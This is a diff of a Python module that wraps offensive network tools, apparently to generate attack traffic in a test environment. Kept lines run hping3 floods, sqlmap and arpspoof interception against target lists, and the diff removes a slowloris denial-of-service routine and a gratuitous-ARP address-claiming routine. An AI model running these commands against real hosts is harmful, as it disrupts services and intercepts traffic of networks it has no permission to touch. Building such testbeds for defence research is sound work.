@@ -62,13 +62,6 @@ def hping(
         ctx.command(["hping3", "-q", "-c", str(count), "-i", f"u{interval}", *where, *flags.split(), target], 90)
 
 
-def slowloris(ctx: Context, targets: list[str], connections: int = 300, rate: int = 30, seconds: int = 60) -> None:
-    """slowhttptest: many connections held open with headers that never end."""
-    for target in targets:
-        ctx.command(["slowhttptest", "-H", "-c", str(min(connections, 1000)), "-r", str(rate), "-i", "8", "-l",
-                     str(seconds), "-u", f"http://{target}/app/"], seconds + 20)  # fmt: skip
-
-
 def sqlmap(ctx: Context, targets: list[str], level: int = 1, seconds: float = 90) -> None:
     """sqlmap against a page with a parameter."""
     for target in targets:
@@ -85,9 +78,3 @@ def arpspoof(ctx: Context, targets: list[str], seconds: int = 60) -> None:
     ctx.command(["timeout", "-s", "INT", str(seconds), "sh", "-c",
                  f"ping -c1 -W1 {victim}; ping -c1 -W1 {other}; exec arpspoof -i eth0 -t {victim} -r {other}"],
                 seconds + 15)  # fmt: skip
-
-
-def claim_address(ctx: Context, targets: list[str], count: int = 30) -> None:
-    """Gratuitous ARP: claim each target's address, once a second."""
-    for target in targets:
-        ctx.command(["arping", "-q", "-U", "-c", str(count), "-S", target, "-i", "eth0", target], count + 10)
